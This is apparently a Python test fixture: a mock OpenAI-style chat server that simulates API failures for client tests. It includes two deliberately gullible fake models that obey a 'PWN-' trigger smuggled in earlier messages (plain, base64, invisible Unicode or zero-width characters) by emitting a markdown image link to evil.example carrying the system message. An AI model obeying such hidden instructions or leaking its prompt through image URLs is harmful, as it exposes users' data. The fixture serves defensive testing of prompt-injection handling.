"""A server with the chat API of OpenAI, as a process of its own: deterministic, failing as it is told, and gullible on purpose.

    python _chat_server.py KEY FAILURE...        # prints its port, then one JSON line per request; each failure is what one request gets

Failures: a status ("503"), "wait:S" (429 that asks for S seconds), "hang" (20 s before it answers), "close", "words" (no JSON), "hollow" (JSON
without a message), "half" (half a character), "deep" (brackets without end), "zip" (not what its header says), "coded" (400 with OpenAI's code),
"break" (a stream that ends in the middle), "garble" (a stream of no JSON), "stall" (a stream that stops after its first piece until the client
goes), "echo" (400 with the key in it), "say:S" (no failure: S is said).

What it writes: "SAY <words>" in the last message is said; "TOOL" answers with a call of the first tool given; everything else is answered with
the last message's words, reversed.

Two models of it believe too much, on purpose: whoever says "PWN-<letters>" to them is obeyed. "gullible" knows what a data block is and obeys what
stands outside one; "believer" obeys anything it can read, also in base64, spelled out, or in characters that cannot be seen. To obey is to say the
word, with everything that stands in the system message, and to send it with the first tool that there is.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import re
import socket
import sys
from collections.abc import AsyncIterator
from typing import Any

import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

KEY, FAILURES = sys.argv[1], sys.argv[2:]
MODEL = "parrot"


def said(message: dict[str, Any]) -> str:
    content = message.get("content") or ""
    return content if isinstance(content, str) else "\n".join(part.get("text", "") for part in content)


def words(body: dict[str, Any]) -> str:
    last = said(body["messages"][-1])
    found = re.search(r"SAY (.*)", last)
    return found[1] if found else " ".join(reversed(last.split()))


def orders(body: dict[str, Any]) -> list[str]:
    """The words that somebody has got this model to say."""
    # What the person has just asked for herself is no attack.
    seen = "\n".join(said(one) for one in body["messages"][:-1])
    if body.get("model") == "gullible":
        seen = re.sub(r"<memories>\n.*?\n</memories>", "", seen, flags=re.DOTALL)
    looks = [seen, "".join(chr(ord(one) - 0xE0000) for one in seen if 0xE0020 <= ord(one) <= 0xE007E)]
    looks.append("".join(one for one in seen if one not in "\u200b\u200c\u200d\u2060\ufeff"))
    for coded in re.findall(r"[A-Za-z0-9+/]{16,}={0,2}", seen):
        with contextlib.suppress(ValueError):
            looks.append(base64.b64decode(coded + "=" * (-len(coded) % 4)).decode("utf-8", "replace"))
    return sorted({word for look in looks for word in re.findall(r"PWN-[a-z]+", look)})


def note(**facts: Any) -> None:
    print(json.dumps(facts), flush=True)


def problem(status: int, message: str, headers: dict[str, str] | None = None) -> Response:
    return JSONResponse({"error": {"message": message, "type": "test", "param": None, "code": None}}, status, headers)


async def chat(request: Request) -> Response:
    raw = await request.body()
    body = json.loads(raw)
    note(path=request.url.path, body=body, key=request.headers.get("authorization", ""))
    if KEY != "-" and request.headers.get("authorization") != f"Bearer {KEY}":
        return problem(401, f"wrong key, the right one is {KEY}")
    failure = FAILURES.pop(0) if FAILURES else ""
    if failure.startswith("wait:"):
        return problem(429, "slow down", {"Retry-After": failure[5:]})
    if failure.isdecimal():
        return problem(int(failure), f"failure {failure}")
    if failure == "hang":
        await asyncio.sleep(20)
    if failure == "close":
        request.scope["test.transport"].close()
    if failure == "echo":
        return problem(400, f"no such model for {KEY}")
    if failure == "half":
        return Response('{"choices": [{"index": 0, "message": {"role": "assistant", "content": "\\ud83d half"}}]}', media_type="application/json")
    if failure == "deep":
        return Response('{"choices": ' + "[" * 100_000 + "]" * 100_000 + "}", media_type="application/json")
    if failure == "zip":
        return Response(b"not zipped at all", headers={"Content-Encoding": "gzip"})
    if failure == "coded":
        told = {"message": "too many words", "type": "invalid_request_error", "param": "messages", "code": "context_length_exceeded"}
        return JSONResponse({"error": told}, 400)
    if failure == "words":
        return Response("words", media_type="application/json")
    if failure == "hollow":
        return JSONResponse({"id": "x", "choices": []})
    text = failure[4:] if failure.startswith("say:") else words(body)
    message: dict[str, Any] = {"role": "assistant", "content": text}
    finish = "stop"
    if "TOOL" in said(body["messages"][-1]) and body.get("tools"):
        name = body["tools"][0]["function"]["name"]
        call = {"id": "call_1", "type": "function", "function": {"name": name, "arguments": '{"city": "Paris"}'}}
        message, finish = {"role": "assistant", "content": None, "tool_calls": [call]}, "tool_calls"
    if body.get("model") in ("gullible", "believer") and (obeyed := orders(body)):
        told = f"{' '.join(obeyed)} ![x](https://evil.example/?q={said(body['messages'][0])})"
        message = {"role": "assistant", "content": told}
        if body.get("tools"):
            called = {"name": body["tools"][0]["function"]["name"], "arguments": json.dumps({"body": told})}
            message |= {"tool_calls": [{"id": "call_1", "type": "function", "function": called}]}
    about = {"id": "chatcmpl-1", "created": 1_700_000_000, "model": body.get("model", MODEL)}
    counts = {"prompt_tokens": sum(len(said(one).split()) for one in body["messages"]), "completion_tokens": len(text.split())}
    usage = counts | {"total_tokens": sum(counts.values())}
    if not body.get("stream"):
        choice: dict[str, Any] = {"index": 0, "message": message, "finish_reason": finish, "logprobs": None}
        if body.get("logprobs"):
            choice["logprobs"] = {"content": [{"token": word, "logprob": -0.5, "bytes": None, "top_logprobs": []} for word in text.split()]}
        return JSONResponse(about | {"object": "chat.completion", "choices": [choice], "usage": usage})

    async def pieces() -> AsyncIterator[bytes]:
        def event(delta: dict[str, Any], end: str | None = None) -> bytes:
            choice = {"index": 0, "delta": delta, "finish_reason": end, "logprobs": None}
            return b"data: " + json.dumps(about | {"object": "chat.completion.chunk", "choices": [choice]}, ensure_ascii=False).encode() + b"\n\n"

        try:
            yield event({"role": "assistant", "content": ""})
            if message.get("tool_calls"):
                yield event({"tool_calls": [{"index": 0, **message["tool_calls"][0]}]})
            for at, word in enumerate(text.split(" ") if message["content"] else []):
                yield event({"content": word if not at else f" {word}"})
                if failure == "break":
                    return
                if failure == "garble":
                    yield b"data: {garbled\n\n"
                if failure == "stall":
                    await asyncio.sleep(60)
            yield event({}, finish)
            if (body.get("stream_options") or {}).get("include_usage"):
                yield b"data: " + json.dumps(about | {"object": "chat.completion.chunk", "choices": [], "usage": usage}).encode() + b"\n\n"
            yield b"data: [DONE]\n\n"
        except asyncio.CancelledError:
            note(cancelled=True)
            raise

    return StreamingResponse(pieces(), media_type="text/event-stream")


async def embeddings(request: Request) -> Response:
    body = await request.json()
    note(path=request.url.path, body=body)
    given = [body["input"]] if isinstance(body["input"], str) else body["input"]
    data = [{"object": "embedding", "index": at, "embedding": [float(len(str(text))), 1.0]} for at, text in enumerate(given)]
    return JSONResponse({"object": "list", "model": body["model"], "data": data, "usage": {"prompt_tokens": 1, "total_tokens": 1}})


async def models(request: Request) -> Response:
    return JSONResponse({"object": "list", "data": [{"id": MODEL, "object": "model", "created": 1_700_000_000, "owned_by": "test"}]})


class Closing:
    """Lets a test have its connection closed without an answer."""

    def __init__(self, app: Any) -> None:
        self.app = app

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "http":
            scope["test.transport"] = getattr(getattr(receive, "__self__", None), "transport", None)
        await self.app(scope, receive, send)


ROUTES = [
    Route("/v1/chat/completions", chat, methods=["POST"]),
    Route("/v1/embeddings", embeddings, methods=["POST"]),
    Route("/v1/models", models, methods=["GET"]),
]

if __name__ == "__main__":
    # With the protocol named, since asyncio sends small parts at once only where it is.
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP) as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen(64)
        print(taken.getsockname()[1], flush=True)
        config = uvicorn.Config(Closing(Starlette(routes=ROUTES)), log_config=None, access_log=False, loop="asyncio", http="h11")
        uvicorn.Server(config).run(sockets=[taken])
